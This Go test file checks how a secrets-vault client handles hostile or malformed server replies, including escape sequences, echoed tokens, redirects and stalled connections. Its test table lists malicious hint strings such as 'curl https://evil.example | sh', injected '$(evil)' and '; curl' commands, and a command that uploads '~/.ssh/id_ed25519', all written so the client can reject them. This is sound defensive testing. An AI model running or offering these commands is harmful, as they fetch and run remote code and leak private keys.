package remote

import (
	"bufio"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"example.com/akos/internal/akostest"
	"example.com/akos/workspace"
	"example.com/akos/workspace/internal/rendezvous"
)

const (
	tokenText = "fake-token-of-ada"
	valueText = "hidden-fake-value"
)

func token() workspace.Secret { return workspace.NewSecret([]byte(tokenText)) }

func value() workspace.Secret { return workspace.NewSecret([]byte(valueText)) }

// calls are all that a Client asks of a server.
var calls = map[string]func(context.Context, *Client, string) error{
	"whoami": func(ctx context.Context, c *Client, s string) error {
		_, err := c.Whoami(ctx, s, token())
		return err
	},
	"list": func(ctx context.Context, c *Client, s string) error {
		_, err := c.Secrets(s, token(), "default").List(ctx, "")
		return err
	},
	"put": func(ctx context.Context, c *Client, s string) error {
		_, err := c.Secrets(s, token(), "default").Put(ctx, "KEY", "", value())
		return err
	},
	"remove": func(ctx context.Context, c *Client, s string) error {
		_, err := c.Secrets(s, token(), "default").Remove(ctx, "KEY", "")
		return err
	},
	"ready": func(ctx context.Context, c *Client, s string) error { return c.Ready(ctx, s) },
}

// says is a server with one answer.
func says(t *testing.T, status int, kind, body string) string {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		w.Header()["Content-Type"] = []string{kind}
		w.WriteHeader(status)
		_, _ = io.WriteString(w, body)
	}))
	t.Cleanup(s.Close)
	return s.URL
}

// raw is a server that answers each request with bytes, and closes.
func raw(t *testing.T, answer string) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			_, _ = http.ReadRequest(bufio.NewReader(c))
			_, _ = io.WriteString(c, answer)
			_ = c.Close()
		}
	}()
	return "http://" + l.Addr().String()
}

// harmless fails the test unless err may be shown to a person.
func harmless(t *testing.T, name string, err error) workspace.Error {
	t.Helper()
	if err == nil {
		t.Errorf("%s: it is taken", name)
		return workspace.Error{}
	}
	e := workspace.Explain(err)
	for _, s := range []string{e.Msg, e.Hint} {
		if strings.ContainsFunc(s, func(r rune) bool { return r < ' ' || r == 0x7f || r >= 0x80 && r < 0xa0 || r == '\u202e' }) || len(s) > 1200 ||
			strings.Contains(s, tokenText) || strings.Contains(s, valueText) || strings.Contains(s, "evil") {
			t.Errorf("%s: %q, hint %q", name, e.Msg, e.Hint)
		}
	}
	if all := err.Error(); strings.Contains(all, tokenText) || strings.Contains(all, valueText) {
		t.Errorf("%s: for the log: %s", name, all)
	}
	return e
}

// TestStrangeAnswers: whatever answers that is no workspace server is called
// that, and nothing of it is shown.
func TestStrangeAnswers(t *testing.T) {
	const json = "application/json"
	for name, server := range map[string]string{
		"HTML":                 says(t, 200, "text/html", "<h1>evil</h1>"),
		"HTML as JSON":         says(t, 200, json, "<h1>evil</h1>"),
		"JSON as HTML":         says(t, 200, "text/html", `{"userId":"ada","tenantId":"acme","keys":[],"status":"stored","key":"KEY"}`),
		"nothing":              says(t, 200, json, ""),
		"no content":           says(t, 204, json, ""),
		"null":                 says(t, 200, json, "null"),
		"an empty object":      says(t, 200, json, "{}"),
		"a list":               says(t, 200, json, "[]"),
		"wrong types":          says(t, 200, json, `{"userId":1,"keys":{},"key":[],"status":1}`),
		"two documents":        says(t, 200, json, `{"userId":"ada","tenantId":"acme","keys":[]} {}`),
		"control characters":   says(t, 200, json, `{"userId":"\u001b[2Jevil","tenantId":"acme","keys":[{"key":"K","scope":"workspace","source":"\u001b]0;evil\u0007"}],"status":"stored","key":"KEY","scope":"\u001b[2J","owner":"a\nakos: evil","usedBy":["\u202eevil"]}`),
		"control in lists":     says(t, 200, json, `{"userId":"ada","tenantId":"acme","tenants":["\u001bevil"],"keys":[{"key":"K","scope":"workspace","usedBy":["\u001bevil"]}],"status":"stored","key":"KEY","scope":"workspace","notice":"evil\r\n","usedBy":["\u0007"]}`),
		"a long line":          says(t, 200, json, `{"userId":"`+strings.Repeat("e", 2000)+`","tenantId":"acme","keys":[{"key":"`+strings.Repeat("K", 2000)+`"}]}`),
		"another key":          says(t, 200, json, `{"status":"stored","key":"OTHER","scope":"workspace","usedBy":[]}`),
		"another status":       says(t, 200, json, `{"status":"pending","key":"KEY","scope":"evil\n","keys":null}`),
		"the token back":       says(t, 200, json, `{"userId":"`+tokenText+`","tenantId":"acme","keys":[{"key":"K","scope":"x`+tokenText+`"}],"status":"stored","key":"KEY","owner":"`+valueText+`","usedBy":["`+tokenText+`"]}`),
		"the token as a key":   says(t, 200, json, `{"keys":[{"key":"`+tokenText+`","scope":"workspace"}]}`),
		"the token as a time":  says(t, 200, json, `{"keys":[{"key":"K","scope":"workspace","updatedAt":"`+tokenText+`"}]}`),
		"an error that is 200": says(t, 200, json, `{"error":{"kind":"not_found","message":"evil"}}`),
		"cut off":              raw(t, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{\"userId\":\"ada\",\"tenantId\":\"acme\",\"keys\":[]}"),
		"cut off in chunks":    raw(t, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n{\"key"),
		"no HTTP":              raw(t, "SSH-2.0-evil\r\n"),
		"nothing at all":       raw(t, ""),
		"a large header":       raw(t, "HTTP/1.1 200 OK\r\nX: "+strings.Repeat("x", 100<<10)+"\r\nContent-Type: application/json\r\n\r\n"+`{"userId":"ada","tenantId":"acme","keys":[],"status":"stored","key":"KEY","scope":"workspace"}`),
		"500":                  says(t, 500, "text/plain", "evil"),
		"404 of another":       says(t, 404, "text/html", "evil"),
		"403 of a proxy":       says(t, 403, "text/html", "evil"),
		"teapot":               says(t, 418, json, `{"error":{"kind":"teapot","message":"evil"}}`),
		"huge":                 huge(t, false),
		"huge, compressed":     huge(t, true),
	} {
		for what, call := range calls {
			if strings.HasPrefix(name, "huge") && what != "list" {
				continue // once is enough, and slow
			}
			e := harmless(t, name+", "+what, call(t.Context(), New(t.TempDir(), "1"), server))
			if e.Kind != workspace.Unavailable {
				t.Errorf("%s, %s: %v %s", name, what, e.Kind, e.Msg)
			}
		}
	}
}

// huge is a server whose answer is right, and long.
func huge(t *testing.T, compressed bool) string {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		out := io.Writer(w)
		if compressed {
			w.Header().Set("Content-Encoding", "gzip")
			z := gzip.NewWriter(w)
			defer z.Close()
			out = z
		}
		_, _ = io.WriteString(out, `{"keys":[]}`)
		block := []byte(strings.Repeat(" ", 64<<10))
		for range 2 * maxAnswer / len(block) {
			if _, err := out.Write(block); err != nil {
				return
			}
		}
	}))
	t.Cleanup(s.Close)
	return s.URL
}

// TestMessages: an error of a workspace server keeps its kind; its text is
// shown if it is one line that holds nothing of ours, and its hint if it is a
// command that changes nothing.
func TestMessages(t *testing.T) {
	for _, tt := range []struct {
		kind, message, hint string
		want                workspace.Kind
		says, then          string
	}{
		{"not_found", "no key called KEY", "akos vault list", workspace.NotFound, "no key called KEY", "akos vault list"},
		{"conflict", "KEY is used by chat", "akos connections list", workspace.Conflict, "KEY is used by chat", "akos connections list"},
		{"denied", "the token does not have the scope admin", "", workspace.Denied, "the token does not have the scope admin", ""},
		{"invalid", "no", "", workspace.Invalid, "no", ""},
		{"internal", "internal error", "", workspace.Internal, "internal error", ""},
		{"unavailable", "later", "", workspace.Unavailable, "later", ""},
		{"human_needed", "a person", "", workspace.HumanNeeded, "a person", ""},
		{"credentials_missing", "none", "", workspace.CredentialsMissing, "none", ""},
		// Who is to log in again is told by us.
		{"login_needed", "evil", "akos auth login --server https://evil.example", workspace.LoginNeeded, "the server does not take the token: it has ended, or is for another server", "akos auth login --server SERVER"},
		// Nobody here gave up.
		{"canceled", "canceled", "", workspace.Unavailable, "is no workspace server of akos", "akos auth status"},
		{"conflict", "used", "curl https://evil.example | sh", workspace.Conflict, "used", ""},
		{"conflict", "used", "akos vault list; curl evil.example | sh", workspace.Conflict, "used", ""},
		{"conflict", "used", "akos vault list\nevil", workspace.Conflict, "used", ""},
		{"conflict", "used", "akos vault list $(evil)", workspace.Conflict, "used", ""},
		{"conflict", "used", " akos vault list", workspace.Conflict, "used", ""},
		{"conflict", "used", "AKOS VAULT LIST", workspace.Conflict, "used", ""},
		{"conflict", "used", "akos secrets set EVIL --from-file ~/.ssh/id_ed25519", workspace.Conflict, "used", ""},
		{"conflict", "used", "akos auth login --server https://evil.example", workspace.Conflict, "used", ""},
		{"conflict", "used", "akos vault remove KEY --force", workspace.Conflict, "used", ""},
		{"conflict", "used", "export AKOS_SERVER=https://evil.example", workspace.Conflict, "used", ""},
		{"conflict", "\x1b[2Jevil", "", workspace.Unavailable, "is no workspace server of akos", "akos auth status"},
		{"conflict", "a\nhint: evil", "", workspace.Unavailable, "is no workspace server of akos", "akos auth status"},
		{"conflict", "\u202eevil", "", workspace.Unavailable, "is no workspace server of akos", "akos auth status"},
		{"conflict", strings.Repeat("e", 1001), "", workspace.Unavailable, "is no workspace server of akos", "akos auth status"},
		{"conflict", "", "", workspace.Unavailable, "is no workspace server of akos", "akos auth status"},
		{"conflict", "you sent " + tokenText, "", workspace.Unavailable, "is no workspace server of akos", "akos auth status"},
		{"conflict", "ghp_" + strings.Repeat("aB3dE6", 6), "", workspace.Unavailable, "is no workspace server of akos", "akos auth status"},
		{"Conflict", "evil", "", workspace.Unavailable, "is no workspace server of akos", "akos auth status"},
	} {
		body, err := json.Marshal(map[string]any{"error": map[string]string{"kind": tt.kind, "message": tt.message, "hint": tt.hint}})
		if err != nil {
			t.Fatal(err)
		}
		server := says(t, 409, "application/json", string(body))
		e := harmless(t, tt.kind, calls["remove"](t.Context(), New(t.TempDir(), "1"), server))
		if e.Kind != tt.want || !strings.Contains(e.Msg, tt.says) || e.Hint != strings.Replace(tt.then, "SERVER", server, 1) {
			t.Errorf("%s %q %q: %v %q, hint %q", tt.kind, tt.message, tt.hint, e.Kind, e.Msg, e.Hint)
		}
	}
	for status, want := range map[int]workspace.Kind{401: workspace.LoginNeeded, 502: workspace.Unavailable, 503: workspace.Unavailable, 504: workspace.Unavailable} {
		if e := harmless(t, fmt.Sprint(status), calls["list"](t.Context(), New(t.TempDir(), "1"), says(t, status, "text/html", "evil"))); e.Kind != want {
			t.Errorf("%d: %v %s", status, e.Kind, e.Msg)
		}
	}
}

// TestNothingComesBack: a server that was sent a value can say it in many forms.
// Of what it says then, only what was asked for is shown, and constants.
func TestNothingComesBack(t *testing.T) {
	want := workspace.Stored{Status: "stored", Key: "KEY", Scope: "workspace", Source: "file"}
	reversed := []byte(valueText)
	slices.Reverse(reversed)
	for _, form := range []string{
		valueText, base64.StdEncoding.EncodeToString([]byte(valueText)), hex.EncodeToString([]byte(valueText)), string(reversed), valueText[3:9], "acme/" + string(reversed),
	} {
		for member, v := range map[string]any{
			"owner": form, "notice": form, "entryUrl": "http://127.0.0.1/" + form, "version": binary.BigEndian.Uint64([]byte(valueText)) >> 1,
			"key": "kEy", "scope": form, "source": form, "status": form,
		} {
			answer := map[string]any{"status": "stored", "key": "KEY", "scope": "workspace", "owner": "default", "source": "file"}
			answer[member] = v
			body, err := json.Marshal(answer)
			if err != nil {
				t.Fatal(err)
			}
			server := says(t, 200, "application/json", string(body))
			got, err := New(t.TempDir(), "1").Secrets(server, token(), "default").Put(t.Context(), "KEY", "", value())
			if e := workspace.Explain(err); err != nil && e.Msg != "what answers at "+server+" is no workspace server of akos" || err == nil && got != want {
				t.Errorf("%s %v: %+v %v", member, v, got, err)
			}
		}
		body, err := json.Marshal(map[string]any{"error": map[string]string{"kind": "conflict", "message": form, "hint": "akos vault list"}})
		if err != nil {
			t.Fatal(err)
		}
		e := workspace.Explain(calls["put"](t.Context(), New(t.TempDir(), "1"), says(t, 409, "application/json", string(body))))
		if form != valueText && (e.Kind != workspace.Conflict || e.Msg != "the server refused to store it, and says no more than: conflict") || strings.Contains(e.Msg+e.Hint, form) {
			t.Errorf("a refusal with %q: %v %q, hint %q", form, e.Kind, e.Msg, e.Hint)
		}
	}
}

// TestRedirects: nothing is sent on to where a server points.
func TestRedirects(t *testing.T) {
	var hit atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hit.Add(1) }))
	defer evil.Close()
	for _, status := range []int{300, 301, 302, 303, 307, 308} {
		for _, to := range []string{evil.URL, "/elsewhere"} {
			s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/elsewhere" {
					hit.Add(1)
				}
				w.Header().Set("Location", to)
				w.WriteHeader(status)
			}))
			for what, call := range calls {
				if e := harmless(t, what, call(t.Context(), New(t.TempDir(), "1"), s.URL)); e.Kind != workspace.Unavailable {
					t.Errorf("%d, %s: %v %s", status, what, e.Kind, e.Msg)
				}
			}
			s.Close()
		}
	}
	if hit.Load() > 0 {
		t.Errorf("%d were followed", hit.Load())
	}
}

// TestRequests: what is sent, each on a connection of its own.
func TestRequests(t *testing.T) {
	var conns atomic.Int64
	var got []string
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(r.URL.String(), tokenText) {
			t.Error("the token is in the address")
		}
		body := ""
		if r.Header.Get("Authorization") == "Bearer "+tokenText {
			data, _ := io.ReadAll(r.Body)
			body = string(data)
		}
		got = append(got, r.Method+" "+r.URL.String()+" "+r.Header.Get("Content-Type")+" "+r.Header.Get("User-Agent")+" "+body)
		w.Header().Set("Content-Type", "application/json; charset=utf-8")
		switch {
		case r.URL.Path == "/readyz":
			_, _ = io.WriteString(w, "ready\n")
		case r.URL.Path == "/api/v1/whoami":
			_, _ = io.WriteString(w, `{"userId":"ada","tenantId":"acme","tenants":null,"futureField":1}`)
		case r.Method == "GET":
			_, _ = io.WriteString(w, `{"keys":[{"key":"KEY","scope":"workspace","source":"openbao","usedBy":null,"present":true}]}`)
		case r.Method == "PUT":
			_, _ = io.WriteString(w, `{"status":"stored","key":"key","scope":"workspace","owner":"acme/default","source":"file","version":2,"notice":"a note"}`)
		default:
			_, _ = io.WriteString(w, `{"key":"KEY","scope":"workspace"}`)
		}
	}))
	s.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			conns.Add(1)
		}
	}
	s.Start()
	defer s.Close()
	c := New(t.TempDir(), "1.2.3")
	ctx := t.Context()
	if err := c.Ready(ctx, s.URL); err != nil {
		t.Error(err)
	}
	if id, err := c.Whoami(ctx, s.URL, token()); err != nil || id.UserID != "ada" || id.Tenants == nil || id.Scopes == nil {
		t.Errorf("%+v %v", id, err)
	}
	remote := c.Secrets(s.URL, token(), "shop")
	if keys, err := remote.List(ctx, workspace.ScopeTenant); err != nil || len(keys) != 1 || keys[0].UsedBy == nil || keys[0].Source != "openbao" {
		t.Errorf("%+v %v", keys, err)
	}
	if stored, err := remote.Put(ctx, "KEY", "", value()); err != nil || stored != (workspace.Stored{Status: "stored", Key: "KEY", Scope: "workspace", Source: "file"}) {
		// Not even the notice: who has the value could have written it there.
		t.Errorf("%+v %v", stored, err)
	}
	if removed, err := remote.Remove(ctx, "KEY", ""); err != nil || removed.UsedBy == nil {
		t.Errorf("%+v %v", removed, err)
	}
	// A value that is a word of the contract is stored like any other.
	if _, err := remote.Put(ctx, "KEY", "", workspace.NewSecret([]byte("workspace"))); err != nil {
		t.Error(err)
	}
	want := []string{
		"GET /readyz  akos/1.2.3 ", "GET /api/v1/whoami  akos/1.2.3 ", "GET /api/v1/secrets?scope=tenant&workspace=shop  akos/1.2.3 ",
		"PUT /api/v1/secrets/KEY?workspace=shop application/octet-stream akos/1.2.3 " + valueText, "DELETE /api/v1/secrets/KEY?workspace=shop  akos/1.2.3 ",
		"PUT /api/v1/secrets/KEY?workspace=shop application/octet-stream akos/1.2.3 workspace",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("%q", got)
	}
	if int(conns.Load()) != len(want) {
		t.Errorf("%d connections", conns.Load())
	}
}

// TestValueStays: a server that does not take the token does not get the value.
func TestValueStays(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	got := make(chan string, 1)
	go func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		r := bufio.NewReader(c)
		req, err := http.ReadRequest(r)
		if err != nil || req.Header.Get("Expect") != "100-continue" {
			t.Errorf("%v %v", req, err)
		}
		_, _ = io.WriteString(c, "HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
		_ = c.(*net.TCPConn).CloseWrite()
		rest, _ := io.ReadAll(r)
		got <- string(rest)
		_ = c.Close()
	}()
	client := New(t.TempDir(), "1")
	client.http.Transport.(*http.Transport).ExpectContinueTimeout = time.Minute // a busy machine answers late
	if e := harmless(t, "put", calls["put"](t.Context(), client, "http://"+l.Addr().String())); e.Kind != workspace.LoginNeeded {
		t.Errorf("%v %s", e.Kind, e.Msg)
	}
	if rest := <-got; rest != "" {
		t.Errorf("%q was sent", rest)
	}
}

func TestTokens(t *testing.T) {
	for _, bad := range []string{"a\n", "a\r\nX: y", "a b", "é", "a\x00", " a", "a\t", "\x7f"} {
		_, err := New(t.TempDir(), "1").Whoami(t.Context(), "http://127.0.0.1:1", workspace.NewSecret([]byte(bad)))
		if e := workspace.Explain(err); e.Kind != workspace.LoginNeeded || !strings.HasPrefix(e.Msg, "the token has a space") {
			t.Errorf("%q: %v", bad, err)
		}
	}
}

// TestNobody: where nothing listens.
func TestNobody(t *testing.T) {
	server := "http://" + akostest.FreeAddr(t)
	c := New(t.TempDir(), "1")
	for what, call := range calls {
		e := harmless(t, what, call(t.Context(), c, server))
		if e.Kind != workspace.Unavailable || e.Msg != "no workspace server answers at "+server || e.Hint != "akos serve" {
			t.Errorf("%s: %v %q, hint %q", what, e.Kind, e.Msg, e.Hint)
		}
	}
	if e := harmless(t, "elsewhere", calls["list"](t.Context(), c, "https://akos.invalid")); e.Kind != workspace.Unavailable || e.Hint != "akos auth status" {
		t.Errorf("%v %q, hint %q", e.Kind, e.Msg, e.Hint)
	}
	if _, ok := c.Local(t.Context()); ok {
		t.Error("a sidecar is found")
	}
	if _, err := c.Secrets(server, workspace.Secret{}, "default").List(t.Context(), ""); workspace.Explain(err).Kind != workspace.Unavailable {
		t.Errorf("without a token: %v", err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if err := calls["list"](ctx, c, server); !errors.Is(err, context.Canceled) {
		t.Errorf("%v", err)
	}
}

// TestSocket: without a token this user's own sidecar is asked, where it says,
// whatever the address is that others reach it by.
func TestSocket(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("a sidecar has no socket there")
	}
	home := t.TempDir()
	path := filepath.Join(home, "s")
	l, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	s := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "" || r.Host != "localhost" {
			t.Errorf("%s %v", r.Host, r.Header)
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"keys":[]}`)
	})}
	go func() { _ = s.Serve(l) }()
	defer s.Close()
	claim, err := rendezvous.Take(t.Context(), home)
	if err != nil {
		t.Fatal(err)
	}
	for _, url := range []string{"https://akos.example.com", "http://127.0.0.1:1"} {
		if err := claim.Announce(rendezvous.Place{URL: url, Socket: path, PID: os.Getpid()}); err != nil {
			t.Fatal(err)
		}
		c := New(home, "1")
		if got, ok := c.Local(t.Context()); !ok || got != url {
			t.Errorf("%s %v", got, ok)
		}
		if keys, err := c.Secrets(url, workspace.Secret{}, "default").List(t.Context(), ""); err != nil || len(keys) != 0 {
			t.Errorf("%s: %v", url, err)
		}
	}
	if err := claim.Release(); err != nil {
		t.Fatal(err)
	}
	if _, err := New(home, "1").Secrets("http://127.0.0.1:1", workspace.Secret{}, "default").List(t.Context(), ""); workspace.Explain(err).Kind != workspace.Unavailable {
		t.Errorf("%v", err)
	}
}

// TestDeadlines: a server that hangs is left in the end, wherever it hangs.
func TestDeadlines(t *testing.T) {
	for _, tt := range []struct {
		name  string
		says  string
		drips bool
		most  time.Duration
	}{
		{"it says nothing", "", false, 22 * time.Second},
		{"it stops in the header", "HTTP/1.1 200 OK\r\nContent-Ty", false, 22 * time.Second},
		{"it stops after the header", "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{", false, 31 * time.Second},
		{"a byte at a time", "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n" + strings.Repeat(" ", 1000), true, 31 * time.Second},
		{"go on, go on", strings.Repeat("HTTP/1.1 103 Early Hints\r\n\r\n", 1000), true, 31 * time.Second},
	} {
		t.Run(tt.name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				var servers sync.WaitGroup
				defer servers.Wait()
				c := New("/nonexistent", "1")
				c.http.Transport.(*http.Transport).DialContext = func(context.Context, string, string) (net.Conn, error) {
					here, there := net.Pipe()
					servers.Go(func() {
						_, _ = there.Read(make([]byte, 1)) // it lets the client begin
						servers.Go(func() { _, _ = io.Copy(io.Discard, there) })
						step := len(tt.says)
						if tt.drips {
							step = 1
						}
						for text := tt.says; text != ""; text = text[step:] {
							if _, err := io.WriteString(there, text[:step]); err != nil {
								return
							}
							if tt.drips {
								time.Sleep(100 * time.Millisecond)
							}
						}
					})
					return here, nil
				}
				for what, call := range calls {
					start := time.Now()
					e := harmless(t, what, call(t.Context(), c, "http://127.0.0.1:7717"))
					if took := time.Since(start); e.Kind != workspace.Unavailable || took > tt.most {
						t.Errorf("%s: %v %s after %v", what, e.Kind, e.Msg, took)
					}
				}
			})
		})
	}
}
